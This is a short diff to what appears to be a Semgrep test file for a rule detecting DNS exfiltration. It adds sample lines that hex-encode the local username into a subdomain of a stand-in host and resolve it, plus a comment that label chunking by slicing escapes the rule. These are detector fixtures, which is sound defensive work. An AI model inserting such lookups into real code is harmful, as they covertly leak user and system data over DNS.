@@ -6,6 +6,9 @@ import socket
 
 user_hex = getpass.getuser().encode().hex()
 # ruleid: dns-exfil-label
+socket.gethostbyname(f"{user_hex}.x.example.invalid")
+# Semgrep does not propagate taint through slices (label chunking).
+# todoruleid: dns-exfil-label
 socket.gethostbyname(f"{user_hex[:29]}.x.example.invalid")
 
 label = base64.b32encode(os.getcwd().encode()).decode().rstrip("=").lower()
